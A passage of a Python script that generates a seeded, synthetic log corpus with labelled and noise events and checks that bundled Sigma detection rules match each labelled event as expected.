        return c.antivirus(c.pick(["PUA:Win32/Presenoker", "Adware:Win32/Hotbar", "Trojan:Script/Wacatac.B!ml"]),
                           ou=c.ou())

    weights = [(windows, 30), (processes, 20), (proxies, 20), (webs, 10), (firewalls, 15), (av, 5)]
    for maker, weight in weights:
        makers += [maker] * weight
    for _ in range(count):
        c.noise(c.pick(makers)())


def build(seed=SEED, noise_count=NOISE):
    c = Corpus(seed)
    labelled(c)
    noise(c, noise_count)
    # Interleave: labelled events keep their order, noise fills in between (deterministically).
    lab = [x for x in c.cases if x[1] is not None]
    rest = [x for x in c.cases if x[1] is None]
    order = sorted(range(len(lab) + len(rest)), key=lambda _: c.rng.random())
    slots = sorted(order[:len(lab)])
    merged, li, ri = [], 0, 0
    slot_set = set(slots)
    for position in range(len(lab) + len(rest)):
        if position in slot_set:
            merged.append(lab[li]); li += 1
        else:
            merged.append(rest[ri]); ri += 1
    lines, expectations = [], []
    for index, (event, note, expect) in enumerate(merged):
        seconds = START + index * 47
        stamp = "2026-12-%02dT%02d:%02d:%02dZ" % (1 + (seconds - START) // 86400, (seconds // 3600) % 24, (seconds // 60) % 60, seconds % 60)
        record = {"@timestamp": stamp}
        record.update(event)
        if note is not None:
            record["_case"] = note if not expect else "%s: %s" % (", ".join(sorted(expect)), note)
        lines.append(json.dumps(record, ensure_ascii=False, separators=(",", ":")))
        expectations.append(expect)
    return lines, expectations


def check(path, expectations, rule_dirs):
    sys.path.insert(0, HERE)
    import sigma_oracle
    rules = sigma_oracle.load_rules(rule_dirs)
    stems = {os.path.splitext(os.path.basename(r.path))[0]: r.id for r in rules}
    result = sigma_oracle.match(rule_dirs, path)["rules"]
    matched = {rule_id: set(lines) for rule_id, lines in result.items()}
    problems = []
    for line, expect in enumerate(expectations):
        for stem, wanted in expect.items():
            if stem not in stems:
                problems.append(f"line {line}: no rule {stem}")
            elif (line in matched[stems[stem]]) != wanted:
                problems.append(f"line {line}: {stem} expected {'a match' if wanted else 'no match'}")
    for stem, rule_id in stems.items():
        if not matched[rule_id]:
            problems.append(f"{stem} matches no event")
    return problems, {stem: len(matched[rule_id]) for stem, rule_id in stems.items()}


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", default=OUT)
    parser.add_argument("--rules", action="append", help="rule directories for the check (default: the bundled rules)")
    parser.add_argument("--no-check", action="store_true")
    arguments = parser.parse_args()
    lines, expectations = build()
    os.makedirs(os.path.dirname(arguments.out), exist_ok=True)
    with open(arguments.out, "w", encoding="utf-8", newline="\n") as f:
        f.write("\n".join(lines) + "\n")
    labelled_count = sum(1 for e in expectations if e)
    print(f"{arguments.out}: {len(lines)} events ({labelled_count} labelled), {os.path.getsize(arguments.out)} bytes")
    if arguments.no_check:
        return
    problems, counts = check(arguments.out, expectations, arguments.rules or RULE_DIRS)
    print("matches per rule: " + ", ".join(f"{stem} {n}" for stem, n in sorted(counts.items())))
    if problems:
        print("\n".join(problems), file=sys.stderr)
        sys.exit(1)
    print("every expectation holds; every rule matches at least one event")


if __name__ == "__main__":
    main()
